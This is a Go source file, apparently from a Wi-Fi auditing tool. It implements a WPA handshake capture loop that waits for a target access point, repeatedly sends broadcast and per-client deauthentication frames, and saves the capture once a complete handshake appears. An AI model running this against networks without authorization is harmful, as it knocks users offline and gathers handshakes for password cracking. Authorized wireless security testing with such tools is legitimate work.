package attack

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/sirupsen/logrus"

	"github.com/ExclusiveAccount/wifi-auditor/pkg/airodump"
	"github.com/ExclusiveAccount/wifi-auditor/pkg/config"
	"github.com/ExclusiveAccount/wifi-auditor/pkg/models"
	"github.com/ExclusiveAccount/wifi-auditor/pkg/pcap"
	"github.com/ExclusiveAccount/wifi-auditor/pkg/results"
	"github.com/ExclusiveAccount/wifi-auditor/pkg/tools"
)

// LoopState is the phase of a handshake capture
type LoopState int

// Handshake capture phases
const (
	StateWaitingForTarget LoopState = iota
	StateListening
	StateCaptured
	StateTimedOut
)

func (s LoopState) String() string {
	switch s {
	case StateWaitingForTarget:
		return "waiting-for-target"
	case StateListening:
		return "listening"
	case StateCaptured:
		return "captured"
	case StateTimedOut:
		return "timed-out"
	}
	return "unknown"
}

// CaptureSource is a running capture scoped to the target's channel
type CaptureSource interface {
	Targets() ([]models.Target, error)
	CaptureFiles() ([]string, error)
}

// HandshakeVerifier reports whether the capture at path holds a complete
// handshake for bssid. An empty essid matches any network name.
type HandshakeVerifier func(path, bssid, essid string) (bool, error)

// HandshakeLoop waits for a target to show up in a capture, deauthenticates
// its clients on a timer and stops once a complete handshake was captured
type HandshakeLoop struct {
	cfg      config.Config
	source   CaptureSource
	deauther airodump.Deauther
	verify   HandshakeVerifier
	logger   *logrus.Entry

	mu     sync.Mutex
	target models.Target
	state  LoopState

	// OnState, when set, is called on every transition
	OnState func(LoopState)
}

// NewHandshakeLoop creates a loop for target. A nil verify inspects the
// capture with pcap.Analyzer; a nil deauther disables deauthentication.
func NewHandshakeLoop(cfg config.Config, target models.Target, source CaptureSource, deauther airodump.Deauther, verify HandshakeVerifier, logger *logrus.Logger) *HandshakeLoop {
	if logger == nil {
		logger = logrus.New()
	}
	if verify == nil {
		verify = pcap.NewAnalyzer(logger).HasHandshake
	}
	return &HandshakeLoop{
		cfg:      cfg,
		source:   source,
		deauther: deauther,
		verify:   verify,
		logger:   logger.WithFields(logrus.Fields{"bssid": target.BSSID, "attack": models.AttackWPAHandshake}),
		target:   target.Clone(),
	}
}

// State returns the current phase
func (l *HandshakeLoop) State() LoopState {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.state
}

// Target returns the target as last seen by the loop, clients included
func (l *HandshakeLoop) Target() models.Target {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.target.Clone()
}

func (l *HandshakeLoop) setState(s LoopState) {
	l.mu.Lock()
	l.state = s
	l.mu.Unlock()
	l.logger.Debugf("Handshake capture %s", s)
	if l.OnState != nil {
		l.OnState(s)
	}
}

// Run drives the capture. It returns the path of the preserved handshake,
// or "" when the target never appeared or the timeout passed.
func (l *HandshakeLoop) Run(ctx context.Context) (string, error) {
	l.setState(StateWaitingForTarget)
	found, err := l.waitForTarget(ctx)
	if err != nil {
		return "", err
	}
	if !found {
		l.logger.Warnf("Target did not appear within %s", l.cfg.TargetWait)
		l.setState(StateTimedOut)
		return "", nil
	}
	l.setState(StateListening)

	burstCtx, cancelBurst := context.WithCancel(ctx)
	var bursts sync.WaitGroup
	var deauthing atomic.Bool
	defer func() {
		cancelBurst()
		bursts.Wait()
	}()

	overall := time.NewTimer(l.cfg.WPAAttackTimeout)
	defer overall.Stop()
	tick := time.NewTicker(l.cfg.Tick)
	defer tick.Stop()

	var deauthC <-chan time.Time
	if !l.cfg.NoDeauth && l.deauther != nil {
		deauth := time.NewTicker(l.cfg.WPADeauthInterval)
		defer deauth.Stop()
		deauthC = deauth.C
	}

	ticks := 0
	for {
		select {
		case <-ctx.Done():
			return "", ctx.Err()

		case <-overall.C:
			if err := ctx.Err(); err != nil {
				return "", err
			}
			l.logger.Infof("No handshake captured within %s", l.cfg.WPAAttackTimeout)
			l.setState(StateTimedOut)
			return "", nil

		case <-deauthC:
			if !deauthing.CompareAndSwap(false, true) {
				continue
			}
			bursts.Add(1)
			go func(target models.Target) {
				defer bursts.Done()
				defer deauthing.Store(false)
				l.deauthBurst(burstCtx, target)
			}(l.Target())

		case <-tick.C:
			ticks++
			path, ok, err := l.check()
			if err != nil {
				return "", err
			}
			if ok {
				l.logger.WithField("file", path).Info("Captured handshake")
				l.setState(StateCaptured)
				return path, nil
			}
			if ticks%l.cfg.ClientPollTicks == 0 {
				l.refresh()
			}
		}
	}
}

func (l *HandshakeLoop) waitForTarget(ctx context.Context) (bool, error) {
	deadline := time.NewTimer(l.cfg.TargetWait)
	defer deadline.Stop()
	tick := time.NewTicker(l.cfg.Tick)
	defer tick.Stop()

	for {
		if l.refresh() {
			return true, nil
		}
		select {
		case <-ctx.Done():
			return false, ctx.Err()
		case <-deadline.C:
			if err := ctx.Err(); err != nil {
				return false, err
			}
			return false, nil
		case <-tick.C:
		}
	}
}

// refresh merges the latest view of the target into the loop's copy and
// reports whether the target is currently visible
func (l *HandshakeLoop) refresh() bool {
	targets, err := l.source.Targets()
	if err != nil {
		if !errors.Is(err, airodump.ErrNoSnapshot) {
			l.logger.WithError(err).Debug("Failed to read capture snapshot")
		}
		return false
	}

	l.mu.Lock()
	defer l.mu.Unlock()
	for _, t := range targets {
		if !strings.EqualFold(t.BSSID, l.target.BSSID) {
			continue
		}
		if t.ESSIDKnown && !l.target.ESSIDKnown {
			l.target.ESSID = t.ESSID
			l.target.ESSIDKnown = true
			l.logger.Infof("Target decloaked as %q", t.ESSID)
		}
		for _, c := range t.Clients {
			if l.target.HasClient(c.Station) {
				continue
			}
			l.target.Clients = append(l.target.Clients, c)
			l.logger.WithField("client", c.Station).Info("Discovered new client")
		}
		return true
	}
	return false
}

// check copies the newest capture aside and tests it for a handshake. Only
// failures to copy or preserve are returned as errors.
func (l *HandshakeLoop) check() (string, bool, error) {
	files, err := l.source.CaptureFiles()
	if err != nil {
		l.logger.WithError(err).Debug("Failed to list capture files")
		return "", false, nil
	}
	if len(files) == 0 {
		return "", false, nil
	}

	target := l.Target()
	if err := os.MkdirAll(l.cfg.TempDir, 0755); err != nil {
		return "", false, err
	}
	scratch := filepath.Join(l.cfg.TempDir, "handshake_check_"+tools.StripBSSID(target.BSSID)+".cap")
	if err := results.CopyFile(files[0], scratch); err != nil {
		if errors.Is(err, os.ErrNotExist) {
			return "", false, nil
		}
		return "", false, fmt.Errorf("failed to copy capture: %w", err)
	}
	defer os.Remove(scratch)

	essid := ""
	if target.ESSIDKnown {
		essid = target.ESSID
	}
	ok, err := l.verify(scratch, target.BSSID, essid)
	if err != nil {
		// airodump-ng may be halfway through writing the file
		l.logger.WithError(err).Debug("Capture not readable yet")
		return "", false, nil
	}
	if !ok {
		return "", false, nil
	}

	path, err := results.PreserveHandshake(scratch, l.cfg.HandshakeDir, essid, target.BSSID, time.Now())
	if err != nil {
		return "", false, fmt.Errorf("failed to save handshake: %w", err)
	}
	return path, true, nil
}

// deauthBurst sends broadcast deauths and then targeted ones to every
// known client
func (l *HandshakeLoop) deauthBurst(ctx context.Context, target models.Target) {
	essid := ""
	if target.ESSIDKnown {
		essid = target.ESSID
	}

	first := true
	send := func(client string) bool {
		if !first && !sleepCtx(ctx, l.cfg.DeauthFrameDelay) {
			return false
		}
		first = false
		if ctx.Err() != nil {
			return false
		}
		if err := l.deauther.Deauth(ctx, target.BSSID, essid, client); err != nil {
			if ctx.Err() != nil {
				return false
			}
			l.logger.WithError(err).Warn("Deauth failed")
		}
		return true
	}

	l.logger.WithField("clients", len(target.Clients)).Debug("Sending deauth burst")
	for i := 0; i < l.cfg.BroadcastDeauths; i++ {
		if !send("") {
			return
		}
	}
	for _, c := range target.Clients {
		for i := 0; i < l.cfg.ClientDeauths; i++ {
			if !send(c.Station) {
				return
			}
		}
	}
}

func sleepCtx(ctx context.Context, d time.Duration) bool {
	if d <= 0 {
		return ctx.Err() == nil
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return false
	case <-t.C:
		return true
	}
}
